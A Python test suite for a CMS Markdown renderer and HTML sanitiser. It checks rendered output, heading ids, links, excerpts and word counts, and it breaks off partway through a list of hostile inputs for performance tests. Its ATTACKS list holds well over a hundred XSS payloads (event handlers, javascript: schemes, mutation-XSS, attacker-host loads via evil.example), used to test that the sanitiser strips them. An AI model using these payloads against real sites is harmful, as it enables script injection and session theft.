"""Tests of rendering: what Markdown becomes, what is removed, and what it costs."""

import re
import subprocess
import sys
import time
import tracemalloc
from html import escape, unescape
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from cms.content import markdown
from cms.content.markdown import sanitiser, writing

# Written here again on purpose, and not taken from the code: this is the promise.
TAGS = set(
    """
    a abbr aside b bdi bdo blockquote br caption cite code col colgroup dd del details dfn div dl
    dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i img input ins kbd li mark ol p pre q rp rt ruby
    s samp section small span strong sub summary sup table tbody td tfoot th thead time tr u ul
    var wbr
    """.split()  # noqa: SIM905 - one word a line would hide the rest
)
ATTRIBUTES = set(
    """
    align alt checked cite class colspan datetime dir disabled height href id lang loading open
    reversed rowspan scope span src start title type value width
    """.split()  # noqa: SIM905 - one word a line would hide the rest
)
EMPTY = {"br", "col", "hr", "img", "input", "wbr"}


class _Page(HTMLParser):
    """What an independent parser sees."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.other: list[str] = []
        self.open: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))
        if tag not in EMPTY:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_comment(self, data: str) -> None:
        self.other.append(data)

    def handle_decl(self, decl: str) -> None:
        self.other.append(decl)

    def handle_pi(self, data: str) -> None:
        self.other.append(data)

    def values(self, name: str) -> list[str]:
        return [attributes[name] for _, attributes in self.tags if name in attributes]


def scheme(url: str) -> str:
    """The scheme as a browser sees it, which ignores controls and spaces in front."""
    return urlsplit(re.sub(r"[\x00-\x20\x7f]", "", url)).scheme


def check_is_safe(html: str) -> _Page:
    page = _Page(html)
    assert page.other == []
    assert page.open == []
    for tag, attributes in page.tags:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES
        for url in ("href", "src", "cite"):
            assert scheme(attributes.get(url, "")) in {"", "http", "https", "mailto", "tel"}
        assert scheme(attributes.get("src", "")) in {"", "http", "https"}
        if tag == "input":
            assert attributes["type"] == "checkbox"
            assert "disabled" in attributes
    ids = page.values("id")
    assert len(ids) == len(set(ids))
    assert all(identifier.startswith("content-") for identifier in ids)
    assert {href[1:] for href in page.values("href") if href.startswith("#content-")} <= set(ids)
    return page


def html_of(source: str) -> str:
    return markdown.render(source).html


# What Markdown becomes.

FIGURE = (
    '<figure><img src="a.png" alt="A" loading="lazy" width="10"><figcaption>C</figcaption></figure>'
)
PYTHON = (
    '<pre><code class="language-python"><span class="n">x</span> <span class="o">=</span> '
    '<span class="s2">"&lt;b&gt;"</span>\n</code></pre>\n'
)


@pytest.mark.parametrize(
    ("source", "html"),
    [
        ("", ""),
        ("Hello *you* and **them**.", "<p>Hello <em>you</em> and <strong>them</strong>.</p>\n"),
        ("~~gone~~ ~too~", "<p><s>gone</s> <s>too</s></p>\n"),
        ("a\\\nb", "<p>a<br>\nb</p>\n"),
        ("***", "<hr>\n"),
        ("> said", "<blockquote>\n<p>said</p>\n</blockquote>\n"),
        ("3. c\n4. d", '<ol start="3">\n<li>c</li>\n<li>d</li>\n</ol>\n'),
        ('```python\nx = "<b>"\n```', PYTHON),
        ('```Python\nx = "<b>"\n```', PYTHON.replace("language-python", "language-Python")),
        ("```mylang\n<b>\n```", '<pre><code class="language-mylang">&lt;b&gt;\n</code></pre>\n'),
        ("```\n<b>\n```", "<pre><code>&lt;b&gt;\n</code></pre>\n"),
        ("    <b>", "<pre><code>&lt;b&gt;\n</code></pre>\n"),
        ("1 < 2 & 3 > 2", "<p>1 &lt; 2 &amp; 3 &gt; 2</p>\n"),
        ("&copy; &lt;b&gt;", "<p>© &lt;b&gt;</p>\n"),
        ("[a](https://b.example 'c \"d\"')",
         '<p><a href="https://b.example" title="c &quot;d&quot;">a</a></p>\n'),
        ("![a *b*](/c.png)", '<p><img src="/c.png" alt="a b"></p>\n'),
        ("<https://a.example/?b=1&c=2>",
         '<p><a href="https://a.example/?b=1&amp;c=2">https://a.example/?b=1&amp;c=2</a></p>\n'),
        ("H<sub>2</sub>O <kbd>Ctrl</kbd> <mark>m</mark> <abbr title='x'>y</abbr>",
         '<p>H<sub>2</sub>O <kbd>Ctrl</kbd> <mark>m</mark> <abbr title="x">y</abbr></p>\n'),
        ("<details open>\n<summary>S</summary>\n\n*in*\n\n</details>",
         '<details open="">\n<summary>S</summary>\n<p><em>in</em></p>\n</details>'),
        ("<figure><img src='a.png' alt=A loading=lazy width=10><figcaption>C</figcaption></figure>",
         FIGURE),
    ],
)  # fmt: skip
def test_markdown_becomes_this_html(source: str, html: str) -> None:
    assert html_of(source) == html


def test_a_table_keeps_its_alignment_without_a_style_attribute() -> None:
    html = html_of("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |")
    assert re.findall("<td.*?>", html) == [
        '<td align="left">',
        '<td align="center">',
        '<td align="right">',
    ]


def test_a_task_list_shows_boxes_that_cannot_be_changed() -> None:
    boxes = [attributes for tag, attributes in _Page(html_of("- [x] a\n- [ ] b")).tags
             if tag == "input"]  # fmt: skip
    assert ["checked" in box for box in boxes] == [True, False]
    assert all(box["type"] == "checkbox" and "disabled" in box for box in boxes)


@pytest.mark.parametrize(
    ("source", "hrefs"),
    [
        ("see https://a.example/b_c_d.", ["https://a.example/b_c_d"]),
        ("http://localhost:8000/x", ["http://localhost:8000/x"]),
        ("(www.a.example/b_(c)) end", ["http://www.a.example/b_(c)"]),
        ("https://a.example/?b=1&c=2&amp;", ["https://a.example/?b=1&c=2"]),
        ("https://a.example, https://b.example!", ["https://a.example", "https://b.example"]),
        ("*https://a.example*", ["https://a.example"]),
        ("a.b+c@d.example.", ["mailto:a.b+c@d.example"]),
        ("mailto:a@b.example", ["mailto:a@b.example"]),
        ("a_b@c.example", ["mailto:a_b@c.example"]),
        ("_a@b.example c_", ["mailto:a@b.example"]),
        (">https://a.example\n>https://b.example", ["https://a.example", "https://b.example"]),
        ("https://a.example/*b*c_d_e~f~g", ["https://a.example/*b*c_d_e~f~g"]),
        ("*a https://a.example/b*c d*", ["https://a.example/b*c"]),
        ("https://a.example/[b c](/d)", ["https://a.example/%5Bb"]),
        ("https://a.example/`b c` d", ["https://a.example/%60b"]),
        ("| www.a.example/\\|b|c |\n|-|-|", ["http://www.a.example/%7Cb"]),
        ("[https://a.example](https://b.example)", ["https://b.example"]),
        ("<a href='/x'>https://a.example</a>", ["/x"]),
        ("xhttps://a.example www. www.a_b.c_d @ a@b a@b.c_ :// http://", []),
        ("`https://a.example`", []),
        ("javascript://a.example ftp://a.example", []),
        ("https://a.example/" + "x" * 2100, []),
    ],
)
def test_a_bare_address_becomes_a_link(source: str, hrefs: list[str]) -> None:
    assert _Page(html_of(source)).values("href") == hrefs


@pytest.mark.parametrize(
    ("source", "text"),
    [
        ("*a https://a.example/b*c d*", "*a https://a.example/b*c d*"),
        ("**a ~b https://a.example/**~c", "**a ~b https://a.example/**~c"),
        ("https://a.example/[b c](/d) e", "https://a.example/[b c](/d) e"),
        ("https://a.example/`b c` d", "https://a.example/`b c` d"),
        ("https://a.example/![b c](/d) e", "https://a.example/![b c](/d) e"),
        ("https://a.example/b\\\nc", "https://a.example/b\\ c"),
    ],
)
def test_what_a_bare_address_takes_is_no_markup_on_its_other_side(source: str, text: str) -> None:
    rendered = markdown.render(source)
    assert rendered.text == text
    assert not {"em", "strong", "s", "code", "img", "br"} & {
        tag for tag, _ in _Page(rendered.html).tags
    }


@pytest.mark.parametrize(
    ("address", "href"),
    [
        ("/a b", "/a%20b"),
        ("/ä%C3%A4%", "/%C3%A4%C3%A4%25"),
        ("/[a]", "/%5Ba%5D"),
        ("https://bücher.example/ä", "https://xn--bcher-kva.example/%C3%A4"),
        ("mailto:a@bücher.example", "mailto:a@xn--bcher-kva.example"),
        ("https://[2001:db8::1]:8000/[a]", "https://[2001:db8::1]:8000/%5Ba%5D"),
    ],
)
def test_an_address_is_written_as_browsers_take_it(address: str, href: str) -> None:
    assert _Page(html_of(f"[x](<{address}>)")).values("href") == [href]


@pytest.mark.parametrize(
    ("address", "shown"),
    [
        ("https://a.example/%C3%A4%20b", "https://a.example/ä%20b"),
        ("https://a.example/%E2%80%AEx", "https://a.example/%E2%80%AEx"),
        ("https://a.example/%FF", "https://a.example/%FF"),
    ],
)
@pytest.mark.parametrize("around", ["{}", "<{}>"])
def test_an_address_that_is_its_own_text_shows_letters(
    address: str, shown: str, around: str
) -> None:
    assert markdown.render(around.format(address)).text == shown


@pytest.mark.parametrize("tag", ["pre", "PRE", "Script", "STYLE", "textareA"])
def test_a_block_of_html_ends_with_its_end_tag_in_any_case(tag: str) -> None:
    html = html_of(f"<{tag}>\n\n*a*\n</{tag}>\n\n*b* `</PRE>`\n\n    </Pre></pre>")
    assert html.endswith(
        "<p><em>b</em> <code>&lt;/PRE&gt;</code></p>\n"
        "<pre><code>&lt;/Pre&gt;&lt;/pre&gt;\n</code></pre>\n"
    )


# Ids and the links to them.


@pytest.mark.parametrize(
    ("heading", "identifier"),
    [
        ("Hello, *World*!", "content-hello-world"),
        ("`code` & [link](/x)", "content-code-link"),
        ("Über uns", "content-uber-uns"),
        ("你好", "content-nihao"),
        ("объект", "content-obekt"),
        ("🎉", "content-tada"),
        ("…", "content-section"),
        ("", "content-section"),
        ("<b>raw</b>", "content-raw"),
        ("![alt](x.png)", "content-alt"),
        ("two\nlines\n===", "content-two-lines"),
    ],
)
def test_a_heading_gets_an_id_from_its_text(heading: str, identifier: str) -> None:
    source = heading if "\n" in heading else f"# {heading}"
    assert _Page(html_of(source)).values("id") == [identifier]


def test_equal_headings_get_ids_of_their_own() -> None:
    ids = _Page(html_of("# a-2\n# A\n# a\n# A!\n# a-3")).values("id")
    assert ids == ["content-a-2", "content-a", "content-a-3", "content-a-4", "content-a-3-2"]


def test_the_id_of_a_heading_does_not_depend_on_other_headings() -> None:
    first, second = html_of("## One\n## Two"), html_of("## Zero\n\ntext\n\n## Two")
    assert _Page(first).values("id")[1] == _Page(second).values("id")[1]


@pytest.mark.parametrize(
    ("link", "href"),
    [
        ("[x](#uber-uns)", "#content-uber-uns"),
        ("[x](#über-uns)", "#content-uber-uns"),
        ("[x](<#Über uns>)", "#content-uber-uns"),
        ("[x](#content-uber-uns)", "#content-uber-uns"),
        ("<a href='#uber-uns'>x</a>", "#content-uber-uns"),
        ("[x](#the-frontend-has-it)", "#the-frontend-has-it"),
        ("[x](/other#uber-uns)", "/other#uber-uns"),
    ],
)
def test_a_link_inside_the_document_finds_its_heading(link: str, href: str) -> None:
    assert _Page(html_of(f"{link}\n\n# Über uns")).values("href") == [href]


def test_a_link_to_an_id_that_only_this_document_could_have_is_unlinked() -> None:
    assert html_of("[x](#content-gone)") == "<p><a>x</a></p>\n"


def test_ids_of_raw_html_get_the_prefix_and_keep_their_links() -> None:
    html = sanitiser.sanitise('<h2 id="x">A</h2><p id="x">B</p><a href="#x">C</a>')
    assert html == '<h2 id="content-x">A</h2><p>B</p><a href="#content-x">C</a>'


def test_footnotes_lead_there_and_back() -> None:
    page = check_is_safe(html_of("A[^n] B[^1] C[^n]\n\n[^1]: one\n[^n]: *two*"))
    assert page.values("href") == [
        *("#content-fn-1", "#content-fn-2", "#content-fn-1"),
        *("#content-fnref-1", "#content-fnref-1-2", "#content-fnref-2"),
    ]
    assert page.values("id") == [
        *("content-fnref-1", "content-fnref-2", "content-fnref-1-2"),
        *("content-fn-1", "content-fn-2"),
    ]


@pytest.mark.parametrize(
    "source",
    [
        "![a[^1]](x.png)\n\n[^1]: one",
        "[a[^1]](/x)\n\n[^1]: one",
        "# a[^1]\n\n[^1]: one",
        "a[^1]\n\n[^1]: one[^1]",
        "a[^1]\n\n[^1]: x[^2]\n[^1]: y\n[^2]: z",
        "a\n\n[^1]: x[^2]\n[^2]: y",
        "<script>[^1]</script> a\n\n[^1]: one",
        "|a[^1]|\n|-|\n|b[^1]|\n\n[^1]: one",
        "<p id='content-fn-1'>x</p>\n\na[^1]\n\n[^1]: one",
        "a[^1]\n\n[^1]: one\n\n    > # two\n\n    ```\n    x\n    ```",
        "# fn 1\n\na[^1]\n\n[^1]: one",
    ],
)
def test_no_footnote_link_leads_nowhere(source: str) -> None:
    check_is_safe(html_of(source))


# What is removed.

ATTACKS = [
    # Scripts and their like.
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/src=https://evil.example/x.js>",
    "<script\x0ctype=module>alert(1)</script>",
    "text <script>alert(1)",
    "<style>@import 'https://evil.example'</style>",
    "<style><img src=x onerror=alert(1)></style>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=https://evil.example>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><button formaction=javascript:alert(1)>x</button></form>",
    "<input type=password name=p autofocus onfocus=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<select onchange=alert(1)><option>x</select>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<audio autoplay onplay=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<isindex action=javascript:alert(1) type=image>",
    "<body onload=alert(1)>",
    "<html manifest=x><head><title></title></head></html>",
    # Event handlers and styles.
    "<img src=x onerror=alert(1)>",
    "<img src=x ONERROR = 'alert(1)'>",
    "<img src=x:x onerror\n=\nalert(1)//",
    "<img/src/onerror=alert(1)>",
    '<img src="x"onerror=alert(1)>',
    "<img src='x' `onerror=alert(1)`>",
    '<img """><script>alert(1)</script>">',
    "<p style='background:url(javascript:alert(1))' onclick=alert(1)>x</p>",
    "<div style='position:fixed;inset:0' class='modal fixed inset-0'>x</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href=/ onmouseover=alert(1) target=_blank rel=opener ping=https://evil.example>x</a>",
    "<p contenteditable accesskey=x tabindex=1 onfocus=alert(1)>x</p>",
    "<b id=__proto__ name=cookie>x</b>",
    "<a id=login name=login href=https://evil.example>x</a>",
    "<img name=getElementById src=x srcset='javascript:alert(1) 1x' usemap=#x>",
    # Schemes.
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#10;script&colon;alert(1)'>x</a>",
    "<a href='&#x6A;avascript&#58;alert(1)'>x</a>",
    "<a href='&#0000106avascript:alert(1)'>x</a>",
    "<a href='javascript&NewLine;:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href='blob:https://a.example/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='mailto:a@b.example'>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    # Schemes in Markdown.
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](java&#x0A;script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1))",
    "[x](j\\avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/png;base64,AAAA)",
    "![x](data:image/png;base64,AAAA)",
    "![x](vbscript:x)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert&#40;1&#41;>",
    "<data:text/html,x>",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x]\n\n[x]: <java&Tab;script:alert(1)> 'title'",
    "javascript:https://a.example/%0aalert(1)",
    "javascript:www.a.example@b.example",
    # Out of an attribute.
    "[x](/y 'a\" onmouseover=\"alert(1)')",
    "[x](/y '\"><script>alert(1)</script>')",
    '[x](</y" onclick="alert(1)>)',
    '[x](/y"onclick="alert(1))',
    '![x" onerror="alert(1)](y)',
    '!["><script>alert(1)</script>](y)',
    "![x](y '\" onerror=\"alert(1)')",
    '<https://a.example/"onclick="alert(1)>',
    'https://a.example/"onmouseover="alert(1)',
    "www.a.example/'onmouseover='alert(1)",
    '"onclick=alert(1)"@a.example',
    '[x]["><script>]\n\n["><script>]: /y \'"><img src=x onerror=alert(1)>\'',
    '```"><script>alert(1)</script>\nx\n```',
    '```x" onclick="alert(1)\nx\n```',
    "```python onload=alert(1)\nx = '<script>'\n```",
    "~~~<img/src=x/onerror=alert(1)>\nx\n~~~",
    "```&quot;&gt;&lt;script&gt;\nx\n```",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    '# "><script>alert(1)</script>',
    "# <img src=x onerror=alert(1)>",
    "# x {#id onclick=alert(1)}",
    '[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: x',
    '[^"onclick="alert(1)]\n\n[^"onclick="alert(1)]: x',
    "[^1]\n\n[^1]: <script>alert(1)</script><img src=x onerror=alert(1)>",
    '|<script>|\n|-|\n|" onclick="|',
    "- [x] <script>alert(1)</script>",
    # Comments, declarations and what parsers disagree about.
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>'; ?>",
    "<!DOCTYPE html [<!ENTITY x '<script>'>]>",
    "</p><script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<title><p title="</title><img src=x onerror=alert(1)>">',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<svg><animate href=#x attributeName=href values=javascript:alert(1) /><a id=x>y</a></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img/src/onerror=x&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<table><td><svg><desc><table><td></desc></svg></td></table><img src=x onerror=alert(1)>",
    "<a title='<!--' href='--><img src=x onerror=alert(1)>'>x</a>",
    "<x-y onclick=alert(1)>z</x-y>",
    "<a\u2028href=javascript:alert(1)>x</a>",
    "<\x00script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]


def test_the_attacks_are_many_and_each_is_its_own() -> None:
    assert len(set(ATTACKS)) == len(ATTACKS) > 130


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_in_markdown_leaves_nothing_that_runs(attack: str) -> None:
    for source in (attack, f"text {attack} text", f"> - {attack}\n", f"[^1]\n\n[^1]: {attack}"):
        check_is_safe(html_of(source))


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_in_html_leaves_nothing_that_runs(attack: str) -> None:
    for source in (attack, f"<p>{attack}</p>", f"<table><tr><td>{attack}", f"<pre>{attack}"):
        html = sanitiser.sanitise(source)
        check_is_safe(html)
        assert sanitiser.sanitise(html) == html


FRAGMENTS = st.sampled_from([
    *"[]()!*_~`<>|#-+:;\"'&=\\/^@{}\n\t \0\r",
    *("\n\n", "    ", "```", "~~~", "[^1]", "[^1]: ", "[a]: ", "](", "![", "<!--", "-->", "]]>"),
    *("<a href=", "<b title='", "<p>", "</p>", "<table>", "<tr><td>", "</table>", "<li>", "<pre>"),
    *("<script>", "</script>", "<svg>", "<style>", "<img src=x ", "onerror=x", "id=x", "<ruby>"),
    *("javascript:", "data:", "https://a.b", "www.a.b", "a@b.c", "&#106;", "&colon;", "&#13;"),
    *("- [ ] ", "1. ", "> ", "|-|", "\n|a|\n", "# ", "===", "python\n", "html\n", "e\u0301", "好"),
    *("<h1>", "<a>", "</a>", "<b>", "</b>", "<div>", "</div>", "<details>", "<caption>", "<col>"),
])  # fmt: skip
SOURCES = st.one_of(st.text(st.characters(), max_size=200), st.lists(FRAGMENTS).map("".join))
THOROUGH = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@THOROUGH
@given(SOURCES)
@example("\ud800\0\x0b\x1f\x7f\ufffe")
def test_any_text_renders_to_safe_html(source: str) -> None:
    try:
        rendered = markdown.render(source)
    except markdown.MarkdownTooComplex:
        return
    check_is_safe(rendered.html)
    (rendered.html + rendered.text + rendered.excerpt).encode()
    assert sanitiser.sanitise(rendered.html) == rendered.html
    assert (rendered.reading_minutes >= 1) == bool(rendered.text)
    assert len(rendered.excerpt) <= 280


@THOROUGH
@given(SOURCES)
@example("<pre>\n\n&#10;x")
@example("<pre>\0\n\nx")
@example("<p>&#13;x<b title='&#13;'>")
@example("<pre><table>\r0")
@example("<pre><table><tr><td>x</td></tr>\n<a>0")
def test_sanitising_twice_changes_nothing(source: str) -> None:
    html = sanitiser.sanitise(source)
    check_is_safe(html)
    assert sanitiser.sanitise(html) == html


@THOROUGH
@given(SOURCES)
@example("[a <https://a.b> *b*](c) [d[^1] **e**](f)\n\n[^1]: note")
@example("| *a* | `b` |\n|-|-|\n| ~~c~~ | ![d](e 'f&#13;') |\n\n- [ ] g\n  > 1. h")
@example("*a **b " * 40 + "c** d*" * 40)
@example("[a](b 'c&#0;&#13;&#10;d')&#13;&#0;<b>e")
def test_only_what_is_in_order_is_not_put_in_order(source: str) -> None:
    try:
        document = writing.write(source)
        html = document.html()
    except markdown.MarkdownTooComplex:
        return
    assert sanitiser.sanitise(html, is_orderly=document.is_orderly) == sanitiser.sanitise(html)


@pytest.mark.parametrize(
    ("source", "is_orderly"),
    [
        ("# a\n\n*b* [c](d) https://e.f[^1]\n\n- > ![g](h)\n\n[^1]: i\n", True),
        ("|a|\n|-|\n|b|\n\n```py\nc = 1\n```\n\n- [x] d", True),
        ("*a _b " * 16 + "c_ d*" * 16, True),
        ("*a _b " * 17 + "c_ d*" * 17, False),
        ("a <b>b</b>", False),
        ("<p>\na", False),
        ("[a <https://b.c>](d)", False),
    ],
)
def test_markdown_without_html_in_it_is_in_order(source: str, *, is_orderly: bool) -> None:
    assert writing.write(source).is_orderly == is_orderly


@THOROUGH
@given(SOURCES)
@example("<a title=\"x>y\" href='/'>z</a>")
@example('<p title="a>b</p>')
@example('<img alt=x src= /a.png><b ="c>">d')
def test_a_comment_changes_nothing(source: str) -> None:
    # HTML in which nothing but tags begins with `<` is taken apart in another, quicker way.
    assert sanitiser.sanitise(f"<!-- -->{source}") == sanitiser.sanitise(source)


@THOROUGH
@given(
    st.text(st.characters(blacklist_characters="\0\r`~", blacklist_categories=["Cs"]), max_size=80),
    st.sampled_from(
        ["python", "html", "c", "bash", "console", "json", "yaml", "css", "diff", "js"]
    ),
)
@example("a\tb\x0c", "robotframework")
def test_colouring_does_not_change_the_code(code: str, language: str) -> None:
    html = html_of(f"```{language}\n{code}\n```")
    assert unescape(re.sub("<[^>]*>", "", html)).rstrip("\n") == f"{code}".rstrip("\n")


@given(st.text(st.characters(blacklist_categories=["Cs", "Cc"]), max_size=100))
def test_text_in_html_stays_what_it_is(text: str) -> None:
    html = sanitiser.sanitise(f"<p>{escape(text)}</p>")
    assert unescape(html.removeprefix("<p>").removesuffix("</p>")) == text


# HTML of other systems.


@pytest.mark.parametrize(
    ("source", "html"),
    [
        ("<p>a<p>b", "<p>a</p><p>b</p>"),
        ("<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>"),
        ("<dl><dt>a<dd>b<dt>c</dl>", "<dl><dt>a</dt><dd>b</dd><dt>c</dt></dl>"),
        ("<b>a<i>b</b>c</i>d", "<b>a<i>b</i></b>cd"),
        ("<a href=/x>a<a href=/y>b", '<a href="/x">a</a><a href="/y">b</a>'),
        ("<IMG SRC='/a.png' ALT=\"a 'b'\">", '<img src="/a.png" alt="a \'b\'">'),
        ("<p>1 < 2 <3 a<b", "<p>1 &lt; 2 &lt;3 a&lt;b</p>"),
        ("<p title='a > b'>x", '<p title="a &gt; b">x</p>'),
        ("<p>a<!-- secret -->b<!-- secret", "<p>ab</p>"),
        ("<font color=red>a</font><center>b</center>", "ab"),
        ("a</p></div></b>b", "ab"),
        ("<a href='/?a=1&copy=2&amp;b=3'>x</a>", '<a href="/?a=1&amp;copy=2&amp;b=3">x</a>'),
        ("<a href=//cdn.example/x>x</a>", '<a href="//cdn.example/x">x</a>'),
        ("<a href=tel:+123 target=_blank rel=nofollow>x</a>", '<a href="tel:+123">x</a>'),
        ("<p class='big language-x k'>a", '<p class="language-x k">a</p>'),
        ("<pre>\n\n  a\n</pre>", "<pre>  a\n</pre>"),
        ("Use the <script> tag. <b>Then</b>", "Use the  tag. <b>Then</b>"),
        ("<iframe src=/x>fallback</iframe><noscript>n</noscript>end", "end"),
    ],
)
def test_untidy_html_is_tidied(source: str, html: str) -> None:
    assert sanitiser.sanitise(source) == html


def test_a_table_without_end_tags_keeps_its_cells() -> None:
    html = sanitiser.sanitise("<table><tr><th>a<th>b<tr><td>c<td colspan=2>d</table>")
    assert html == (
        "<table><tbody><tr><th>a</th><th>b</th></tr>"
        '<tr><td>c</td><td colspan="2">d</td></tr></tbody></table>'
    )


# Text, words and the excerpt.


def test_the_text_has_a_line_for_each_block() -> None:
    source = (
        "# A & B\n\nSome *text*[^1] and\nmore &lt;b&gt;.\n\n- one\n- two\n\n```python\nif x:\n"
        "    y = 1\n```\n\n| a | b |\n|---|---|\n| c | d |\n\nline\\\nbreak\n\n[^1]: The note."
    )
    assert markdown.render(source).text.split("\n") == [
        *("A & B", "Some text and more <b>.", "one", "two", "if x:", "    y = 1", "a\tb", "c\td"),
        *("line", "break", "The note."),
    ]


@pytest.mark.parametrize(
    ("source", "count"),
    [
        ("", 0),
        ("one two  three", 3),
        ("don't stop — well-known facts, 3.14!", 5),
        ("**bo**ld", 1),
        ("... --- !", 0),
        ("你好世界", 4),
        ("我用 Python 写", 4),
        ("ひらがな カタカナ", 8),
        ("한국어 문장", 2),
        ("हिन्दी भाषा", 2),
        ("# Two words\n\n`code here`", 4),
    ],
)
def test_words_are_counted_in_any_script(source: str, count: int) -> None:
    assert markdown.render(source).word_count == count


@pytest.mark.parametrize(
    ("source", "minutes"),
    [
        ("", 0),
        ("<!-- x -->", 0),
        ("!", 1),
        ("word " * 10, 1),
        ("word " * 2380, 10),
        ("字" * 5000, 10),
    ],
)
def test_reading_takes_minutes(source: str, minutes: int) -> None:
    assert markdown.render(source).reading_minutes == minutes


def test_the_excerpt_is_taken_from_prose() -> None:
    source = (
        "# Title\n\n```\ncode\n```\n\n| a |\n|---|\n| b |\n\nFirst <b>&amp;</b>.\n\n> Second.[^1]"
    )
    assert markdown.render(f"{source}\n\n[^1]: note").excerpt == "First &. Second."


def test_the_excerpt_of_a_post_without_prose_is_what_there_is() -> None:
    assert markdown.render("# Title\n\n    code").excerpt == "Title code"


def test_a_long_excerpt_ends_after_a_word() -> None:
    excerpt = markdown.render("seven, " * 100).excerpt
    assert excerpt == "seven, " * 38 + "seven, seven…" or re.fullmatch("(seven, )+seven…", excerpt)
    assert 200 <= len(excerpt) <= 280


@pytest.mark.parametrize(
    ("unit", "whole"),
    [("字", 1), ("👩‍👩‍👧‍👦", 7), ("🇩🇪", 2), ("👍🏽", 2), ("e\u0323\u0301", 3), ("नि", 2)],
)
@pytest.mark.parametrize("shift", range(4))
def test_a_long_excerpt_without_spaces_ends_between_characters(
    unit: str, whole: int, shift: int
) -> None:
    assert len(unit) == whole
    excerpt = markdown.render("x" * shift + unit * 300).excerpt
    assert 200 <= len(excerpt) <= 280
    assert excerpt.endswith("…")
    assert (len(excerpt) - 1 - shift) % whole == 0


# What it costs.

HOSTILE = {
    "brackets": "[",
    "images": "![",
    "labels": "[^a",
    "stars": "*",
    "crossed": "*a _b ",
    "ticks": "` `` ",
    "angles": "<a ",
    "comments": "<!-- ",
    "quotes": "> a\n",
    "pipes": "|",
    "parentheses": "(",
    "links": "[a](",
    "colons": ":",
    "mails": "mailto:",
    "ats": "a@",
    "addresses": "www.a.b/)",
